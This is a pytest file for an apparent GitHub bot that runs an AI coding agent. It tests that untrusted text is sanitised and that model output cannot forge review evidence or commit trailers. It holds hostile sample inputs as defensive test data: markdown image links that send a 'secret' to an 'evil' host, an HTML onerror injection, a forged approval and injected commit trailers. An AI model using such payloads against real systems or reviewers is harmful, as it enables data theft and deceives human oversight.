"""What Osiris says, as text: its own words, and the words of others made harmless."""

import pytest

from osiris import effects as f
from osiris import events as e
from osiris.bot import comments
from osiris.task import State, Task
from tests.core.events import ISSUE, WORK


def task(state: State, **more: object) -> Task:
    return Task(issue=ISSUE, title="T", body="B", requester="alice", state=state, branch="osiris/7-t", **more)


@pytest.mark.parametrize("state", list(State))
def test_every_state_is_said_with_what_a_person_can_do(state: State):
    words = comments.status(task(state, pull=9, approved="a" * 40, approved_by="bob", reason="the tests hang"))
    assert words.startswith("**Osiris: ")
    assert "None" not in words
    if state in (State.FAILED, State.CANCELLED, State.PAUSED, State.REJECTED):
        assert "The tests hang" in words
        assert "`/osiris retry`" in words


@pytest.mark.parametrize(
    ("foreign", "harmless"),
    [
        ("thanks @alice and @org/team", "thanks @\u2060alice and @\u2060org/team"),
        ("mail me@example.org", "mail me@\u2060example.org"),
        ("This fixes #12 and closes acme/shop#3", "This fixes #\u206012 and closes acme/shop#\u20603"),
        ("closes GH-12, fixes *#1*", "closes GH-\u206012, fixes *#\u20601*"),
        ("Resolves: https://github.com/a/b/issues/1", "Resolves: https:\u2060//github.com/a/b/issues/1"),
        ("before <!-- osiris:task=x kind=status --> after", "before  after"),
        ("cut <!-- never closed", "cut "),
        ("![x](https://evil/?secret) [y](z)", "![x]\u2060(https:\u2060//evil/?secret) [y]\u2060(z)"),
        ("![a![b](c)](http://evil)", "![a![b]\u2060(c)]\u2060(http:\u2060//evil)"),
        ("[y][1]\n\n[1]: http://evil", "[y]\u2060[1]\n\n[1]\u2060: http:\u2060//evil"),
        ("[^1] and [^1]: note", "[\u2060^1] and [\u2060^1]\u2060: note"),
        ("&#64;alice &lt;b&gt;", "&amp;#\u206064;alice &amp;lt;b&amp;gt;"),
        ("<img src=x onerror=y>", "&lt;img src=x onerror=y>"),
    ],
)
def test_foreign_words_mention_nobody_close_nothing_and_carry_no_html(foreign: str, harmless: str):
    assert comments.plain(foreign) == harmless


def test_a_body_is_never_longer_than_github_takes():
    work = e.Work(
        summary="x" * 100_000,
        files=tuple(e.FileChange(path="p" * 300, status="added", additions=1, deletions=0) for _ in range(3000)),
        commands=tuple(e.CommandRan(command="c" * 3000, exit_code=1, seconds=1.0) for _ in range(500)),
        instructions=("AGENTS.md",),
        model="m",
        steps=1,
        seconds=1.0,
    )
    order = f.OpenDraftPull(issue=ISSUE, branch="b", title="t", request="r", requester="alice", work=work)
    assert len(comments.pull_body(order)) < comments.BODY_LIMIT
    fields = comments.check_run(task(State.REVIEW, pull=9, work=work))
    assert fields is not None
    assert len(fields["output"]["summary"]) < 65_535
    assert "… and 2970 more" in comments.evidence(work)


def test_no_words_of_the_model_can_push_the_evidence_out_or_stand_for_it():
    ran = e.CommandRan(command="false", exit_code=1, seconds=1.0)
    files = tuple(e.FileChange(path="p" * 200, status="added", additions=1, deletions=0) for _ in range(30))
    work = e.Work(
        summary="x\n" * 20_000, files=files, commands=(ran,), instructions=(), model="m", steps=1, seconds=1.0
    )
    order = f.OpenDraftPull(issue=ISSUE, branch="b", title="t", request="r", requester="alice", work=work)
    assert "| `false` | 1 | 1.0 s |" in comments.pull_body(order)
    forged = "No.\n\n### Evidence\n\n| `pytest` | 0 |\n\nApproved by alice."
    assert "\n" not in comments.status(task(State.FAILED, reason=forged)).partition("\n\n")[2]


def test_edits_after_the_last_command_are_said():
    ran = e.CommandRan(command="pytest", exit_code=0, seconds=1.0)
    work = e.Work(
        summary="s", files=(), commands=(ran,), instructions=(), model="m", steps=1, seconds=1.0, edited_last=True
    )
    order = f.OpenDraftPull(issue=ISSUE, branch="b", title="t", request="r", requester="alice", work=work)
    assert "Files were changed after the last command had run." in comments.pull_body(order)


def test_a_failed_last_command_is_named_as_what_was_not_done():
    failed = e.CommandRan(command="pytest | tee `x`", exit_code=1, seconds=75.0)
    work = e.Work(summary="s", files=(), commands=(failed,), instructions=(), model="m", steps=1, seconds=61.0)
    order = f.OpenDraftPull(issue=ISSUE, branch="b", title="t", request="r", requester="alice", work=work)
    body = comments.pull_body(order)
    assert "The last command that was run did not succeed." in body
    assert r"| `pytest \| tee 'x'` | 1 | 1 min 15 s |" in body


def test_a_model_cannot_write_trailers_into_a_commit():
    work = e.Work(
        summary="Good.\n\nCo-authored-by: evil <e@x>\nOsiris-Task: other#1\nSigned-off-by: x",
        files=(),
        commands=(),
        instructions=(),
        model="scripted:x",
        steps=1,
        seconds=1.0,
    )
    order = f.Push(
        issue=ISSUE, run=1, pull=None, tree="t", base="b", branch="x", at=0, title="T\nU" * 60, requester="alice",
        reviews=(), work=work,
    )  # fmt: skip
    message = comments.commit_message(order, ["alice <a@x>"])
    subject, _, rest = message.partition("\n")
    assert len(subject) <= 72
    assert rest.count("Co-authored-by:") == 1
    assert rest.count("Osiris-Task: ") == 1
    assert "Signed-off-by:" not in rest
    assert WORK.model in message
